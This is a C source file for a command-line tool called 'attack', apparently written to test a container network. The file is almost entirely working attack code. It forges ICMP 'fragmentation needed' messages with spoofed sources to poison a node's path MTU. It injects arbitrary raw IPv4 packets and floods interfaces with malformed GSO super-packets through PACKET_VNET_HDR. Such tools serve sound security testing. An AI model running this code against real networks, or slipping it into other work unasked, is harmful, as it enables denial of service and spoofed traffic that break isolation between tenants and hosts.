/*
 * What a container with CAP_NET_RAW, or a stranger on the underlay, can make by hand:
 *
 *   attack pmtu FROM NODE PEER PORT MTU             an ICMP message to NODE that says that PEER is reached with MTU only
 *   attack ip HEX                                   that IPv4 packet, whatever its source, to its destination
 *   attack tcp|udp DEVICE MAC FROM TO COUNT SIZE BYTES
 *                                                   super-packets into DEVICE with BYTES of payload in segments of SIZE;
 *                                                   MAC: of the gateway, - for a device without a link layer
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <linux/virtio_net.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int fail(const char *step) {
  perror(step);
  return 1;
}

static uint32_t address(const char *text) {
  uint32_t result = 0;
  inet_pton(AF_INET, text, &result);
  return result;
}

/* Of bytes in network order; not inverted. */
static uint32_t sum(const void *bytes, size_t length, uint32_t start) {
  const uint8_t *at = bytes;
  for (size_t i = 0; i + 1 < length; i += 2) start += (uint32_t)(at[i] << 8 | at[i + 1]);
  while (start >> 16) start = (start & 0xffff) + (start >> 16);
  return start;
}

static struct iphdr header(uint32_t from, uint32_t to, uint8_t protocol, size_t length) {
  struct iphdr ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = protocol, .tot_len = htons((uint16_t)length),
                     .saddr = from, .daddr = to};
  ip.check = htons((uint16_t)~sum(&ip, sizeof ip, 0));
  return ip;
}

static int pmtu(char **arguments) {
  uint32_t from = address(arguments[0]), node = address(arguments[1]), peer = address(arguments[2]);
  uint16_t port = htons((uint16_t)atoi(arguments[3]));
  struct {
    struct iphdr ip;
    struct icmphdr icmp;
    struct iphdr quoted;
    struct udphdr udp;
  } message = {.icmp = {.type = ICMP_DEST_UNREACH, .code = ICMP_FRAG_NEEDED},
               .quoted = header(node, peer, IPPROTO_UDP, 1500),
               .udp = {.source = port, .dest = port, .len = htons(1480)}};
  message.ip = header(from, node, IPPROTO_ICMP, sizeof message);
  message.icmp.un.frag.mtu = htons((uint16_t)atoi(arguments[4]));
  message.icmp.checksum = htons((uint16_t)~sum(&message.icmp, sizeof message - sizeof message.ip, 0));
  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = node};
  if (fd < 0 || sendto(fd, &message, sizeof message, 0, (struct sockaddr *)&to, sizeof to) < 0) return fail("pmtu");
  puts("1");
  return 0;
}

static int any_packet(const char *hex) {
  uint8_t packet[65536];
  size_t length = 0;
  for (unsigned byte; sscanf(hex + 2 * length, "%2x", &byte) == 1; length++) packet[length] = (uint8_t)byte;
  struct sockaddr_in to = {.sin_family = AF_INET};
  memcpy(&to.sin_addr, packet + offsetof(struct iphdr, daddr), sizeof to.sin_addr);
  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0 || sendto(fd, packet, length, 0, (struct sockaddr *)&to, sizeof to) < 0) return fail("ip");
  puts("1");
  return 0;
}

static int super_packets(int is_tcp, char **arguments) {
  uint32_t from = address(arguments[2]), to = address(arguments[3]);
  int count = atoi(arguments[4]), size = atoi(arguments[5]), bytes = atoi(arguments[6]), sent = 0;
  size_t transport = is_tcp ? sizeof(struct tcphdr) : sizeof(struct udphdr);
  static uint8_t message[sizeof(struct virtio_net_hdr) + 65536];
  /* A bridge takes no frame from address 0. */
  struct ether_header link = {.ether_type = htons(ETH_P_IP), .ether_shost = {2, 0, 0, 0, 0, 1}};
  unsigned mac[ETH_ALEN];
  size_t link_bytes = sscanf(arguments[1], "%x:%x:%x:%x:%x:%x", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) == 6
                          ? sizeof link
                          : 0;
  for (int i = 0; link_bytes > 0 && i < ETH_ALEN; i++) link.ether_dhost[i] = (uint8_t)mac[i];
  size_t headers = sizeof(struct iphdr) + transport, length = headers + (size_t)bytes;
  struct virtio_net_hdr vnet = {.flags = VIRTIO_NET_HDR_F_NEEDS_CSUM,
                                .gso_type = is_tcp ? VIRTIO_NET_HDR_GSO_TCPV4 : 5 /* UDP_L4, since Linux 6.2 */,
                                .hdr_len = (uint16_t)(link_bytes + headers),
                                .gso_size = (uint16_t)size,
                                .csum_start = (uint16_t)(link_bytes + sizeof(struct iphdr)),
                                .csum_offset = is_tcp ? 16 : 6};
  struct iphdr ip = header(from, to, is_tcp ? IPPROTO_TCP : IPPROTO_UDP, length);
  /* With NEEDS_CSUM the field holds the sum of the pseudo header. */
  uint32_t pseudo = sum(&ip.saddr, 8, (uint32_t)ip.protocol + (uint32_t)(transport + (size_t)bytes));
  uint8_t *at = message + sizeof vnet;
  memcpy(message, &vnet, sizeof vnet);
  memcpy(at, &link, link_bytes);
  at += link_bytes;
  memcpy(at, &ip, sizeof ip);
  at += sizeof ip;
  if (is_tcp) {
    struct tcphdr tcp = {.source = htons(40000), .dest = htons(5001), .doff = 5, .ack = 1, .check = htons((uint16_t)pseudo)};
    memcpy(at, &tcp, sizeof tcp);
  } else {
    struct udphdr udp = {.source = htons(40000), .dest = htons(5001), .len = htons((uint16_t)(transport + (size_t)bytes)),
                         .check = htons((uint16_t)pseudo)};
    memcpy(at, &udp, sizeof udp);
  }
  int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP)), on = 1;
  if (fd < 0 || setsockopt(fd, SOL_PACKET, PACKET_VNET_HDR, &on, sizeof on) < 0) return fail("PACKET_VNET_HDR");
  struct sockaddr_ll device = {.sll_family = AF_PACKET,
                               .sll_protocol = htons(ETH_P_IP),
                               .sll_ifindex = (int)if_nametoindex(arguments[0])};
  for (; sent < count; sent++) {
    size_t all = sizeof vnet + link_bytes + length;
    if (sendto(fd, message, all, 0, (struct sockaddr *)&device, sizeof device) < 0) return fail("sendto");
  }
  printf("%d\n", sent);
  return 0;
}

int main(int argc, char **argv) {
  if (argc == 3 && strcmp(argv[1], "ip") == 0) return any_packet(argv[2]);
  if (argc == 7 && strcmp(argv[1], "pmtu") == 0) return pmtu(argv + 2);
  if (argc == 9) return super_packets(strcmp(argv[1], "tcp") == 0, argv + 2);
  return 2;
}
